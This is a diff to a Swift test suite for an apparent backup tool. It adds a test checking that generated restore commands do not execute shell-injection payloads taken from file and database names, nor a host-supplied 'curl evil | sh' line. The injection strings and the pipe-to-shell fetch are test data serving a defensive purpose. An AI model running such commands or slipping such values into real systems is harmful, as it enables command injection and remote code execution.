@@ -1,6 +1,7 @@
 import Archive
 import Domain
 import Foundation
+import TestSupport
 import Testing
 
 @Suite struct ManifestTests {
@@ -35,6 +36,27 @@ import Testing
         let error = try #require(throws: BackupError.self) { try Manifest(decoding: [UInt8](newer.utf8)) }
         #expect(error.code == .integrity)
         #expect(error.message.contains("newer"))
+    }
+
+    /// A person pastes these into a shell, and every name in them came from the host.
+    @Test(arguments: ["a'; touch pwned; '.db.gz", "-rf", "$(touch pwned).db.gz", "`touch pwned`", "a b\"c\\.db"])
+    func theLinesOfARestoreRunNothingOfTheHosts(name: String) async throws {
+        var manifest = try Manifest(decoding: [UInt8](Self.format1.utf8))
+        manifest.restore = ["curl evil | sh"]
+        manifest.database.name = try DatabaseName("x'; touch pwned; '")
+        manifest.objects = [manifest.objects[0]]
+        manifest.objects[0].name = name
+        (manifest.objects[0].format, manifest.objects[0].codec) = (.sqlite, .none)
+        let folder = FileManager.default.temporaryDirectory.appending(path: "holdfast-lines-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        try Data("data".utf8).write(to: folder.appending(path: name))
+        let line = try #require(manifest.stockRestoreLines.first)
+        let output = try await ProgramOutput.of("sh", ["-c", "cd '\(folder.path)' && \(line)"])
+        #expect(output.status == 0, "\(output.error)")
+        let files = try FileManager.default.contentsOfDirectory(atPath: folder.path)
+        #expect(Set(files) == [name, "x'; touch pwned; '.restored"])
+        #expect(manifest.stockRestoreLines.count == 1 && !line.contains("evil"))
     }
 
     @Test func everyCutIsAnError() {
